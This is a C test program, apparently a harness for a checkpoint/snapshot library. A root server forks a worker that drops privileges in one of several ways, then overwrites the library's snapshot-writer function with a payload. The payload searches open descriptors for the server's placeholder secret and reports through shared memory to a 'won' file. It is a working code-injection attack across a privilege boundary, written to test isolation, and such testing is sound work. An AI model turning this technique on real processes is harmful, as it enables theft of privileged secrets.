/* A server of root and its worker, who gives up rights as argv[2] says and then attacks: it writes over the code with
 * which its snapshot is to write itself. That code, if it ever runs, looks for the server's secret in each descriptor
 * that it finds, and leaves it in memory that the worker shares with it; the worker writes it to `won`. argv[1]:
 * scratch directory; argv[3]: the user that it becomes. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { SECRET_BYTES = 64 * 4096, LOOT = 0x7d0000000, DESCRIPTORS = 16 };

struct loot {
    volatile uint32_t ran, found;
    char text[4096];
};

static const char *directory, *way;
static int user;

static inline __attribute__((always_inline)) long call(long number, long a, long b, long c, long d) {
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

/* In the snapshot, in place of the writer: only system calls, no address but the loot's. */
static __attribute__((noinline, noclone, aligned(64),
                      optimize("O1,no-stack-protector,no-tree-loop-distribute-patterns"))) void
payload(void) {
    struct loot *loot = (struct loot *)LOOT;
    loot->ran = 1;
    for (;;) {
        for (int fd = 0; fd < DESCRIPTORS; fd++)
            if (call(SYS_pread64, fd, (long)loot->text, sizeof loot->text, 0) > 0 && loot->text[0] == 'S' &&
                loot->text[1] == 'E')
                loot->found = 1;
    }
}

static void change_writer(void) {
    char *writer = dlsym(RTLD_DEFAULT, "udckpt_snapshot_writer_2");
    if (!writer) abort();
    char *page = (char *)((uintptr_t)writer & -4096L);
    if (mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC)) abort();
    memcpy(writer, (void *)payload, 512);
}

static void become(void) {
    if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, user, user, user) ||
        syscall(SYS_setresuid, user, user, user))
        abort();
}

static void announce(const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", directory, name);
    close(open(path, O_WRONLY | O_CREAT, 0666));
}

/* raw setresuid(2): only this thread becomes somebody else, and has all of the memory. */
static void *thread(void *unused) {
    become();
    for (;;) pause();
    return unused;
}

static int in_same_memory(void *unused) {
    (void)unused;
    become();
    for (;;) pause();
}

static void give_up(void) {
    static char stack[1 << 16];
    pthread_t one;
    if (!strcmp(way, "user")) become();
    else if (!strcmp(way, "thread")) pthread_create(&one, NULL, thread, NULL);
    else if (!strcmp(way, "capabilities")) {
        uint32_t header[2] = {0x20080522, 0}, none[6] = {0};
        if (syscall(SYS_capset, header, none)) abort();
    } else if (!strcmp(way, "sandbox")) {
        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) abort();
    } else if (clone(in_same_memory, stack + sizeof stack,
                     CLONE_VM | (strcmp(way, "child") ? CLONE_PARENT : 0) | SIGCHLD, NULL) < 0)
        abort();
    usleep(50000); /* the other thread or process has done so, too */
}

static void work(struct loot *loot, int done) {
    char won[4096];
    snprintf(won, sizeof won, "%s/won", directory);
    int file = open(won, O_WRONLY | O_CREAT, 0666);
    change_writer();
    give_up();
    if (write(done, "", 1) != 1) abort();
    for (;;) {
        usleep(1000);
        if (loot->found || loot->ran) {
            dprintf(file, "ran %u found %u %.40s\n", loot->ran, loot->found, loot->text);
            loot->ran = loot->found = 0;
        }
    }
}

int main(int argc, char **argv) {
    if (argc < 4) return 64;
    directory = argv[1];
    way = argv[2];
    user = atoi(argv[3]);
    struct loot *loot = mmap((void *)LOOT, sizeof *loot, PROT_READ | PROT_WRITE,
                             MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (loot == MAP_FAILED) abort();
    int ready[2];
    char byte;
    if (pipe(ready)) abort();
    if (fork() == 0) work(loot, ready[1]);
    char *secret = mmap(NULL, SECRET_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int at = 0; at < SECRET_BYTES; at += 4096) snprintf(secret + at, 4096, "SECRET of the server");
    if (read(ready[0], &byte, 1) != 1) abort();
    announce("ready");
    for (;;) pause();
}
